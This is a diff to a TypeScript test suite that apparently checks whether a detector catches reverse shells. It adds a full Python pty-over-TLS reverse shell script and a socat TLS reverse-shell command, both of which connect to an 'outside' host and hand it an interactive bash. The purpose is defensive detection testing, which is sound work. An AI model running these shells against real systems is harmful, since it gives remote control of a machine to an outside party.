@@ -14,17 +14,20 @@ interface Shell {
   readonly exe: RegExp
   readonly needs?: readonly string[]
   readonly isTls?: boolean
+  /** Key by key. */
+  readonly isTyped?: boolean
   readonly command: (port: number, folder: string) => readonly [string, ...string[]]
 }
 
-function shell({ name, exe, needs = [], isTls = false, command }: Shell): Case {
+function shell({ name, exe, needs = [], isTls = false, isTyped = false, command }: Shell): Case {
   return {
     name,
     finds: { class: ["reverse_shell"], exe },
     needs,
     run: async ({ network, certificate }) => {
       const port = nextPort++
-      const typist = await network.serve("outside", "typist.py", `${port}`, ...(isTls ? [certificate] : []))
+      const how = [...(isTls ? [certificate] : []), ...(isTyped ? ["keys"] : [])]
+      const typist = await network.serve("outside", "typist.py", `${port}`, ...how)
       const [program, ...args] = command(port, network.folder)
       const client = network.start("inside", "env", `HOME=${network.folder}`, program, ...args)
       const firstUs = await firstUseUs(typist)
@@ -72,7 +75,41 @@ readline.createInterface({ input: connection }).on("line", (line) => {
 })
 `
 
+const terminalInTls = `import os, pty, select, socket, ssl, sys
+context = ssl._create_unverified_context()
+connection = context.wrap_socket(socket.create_connection((sys.argv[1], int(sys.argv[2]))))
+child, master = pty.fork()
+if child == 0:
+    os.execvp("bash", ["bash", "--norc"])
+while True:
+    ready = select.select([connection, master], [], [])[0]
+    try:
+        if connection in ready:
+            keys = connection.recv(4096)
+            if not keys:
+                break
+            os.write(master, keys)
+        if master in ready:
+            connection.sendall(os.read(master, 4096))
+    except OSError:
+        break
+`
+
 export const shellForms: readonly Case[] = [
+  shell({
+    name: "python with a pty in TLS, typed key by key",
+    exe: /python3|bash/,
+    isTls: true,
+    isTyped: true,
+    command: (port, folder) => ["/usr/bin/python3", script(folder, "terminal.py", terminalInTls), outside, `${port}`],
+  }),
+  shell({
+    name: "socat in TLS with a pty, typed key by key",
+    exe: /socat|bash/,
+    isTls: true,
+    isTyped: true,
+    command: (port) => ["socat", `OPENSSL:${outside}:${port},verify=0`, "EXEC:bash --norc,pty,stderr,setsid"],
+  }),
   shell({ name: "perl", exe: /perl|sh$/, command: (port) => ["perl", "-e", perl(port)] }),
   shell({
     name: "python that runs each line as a child",
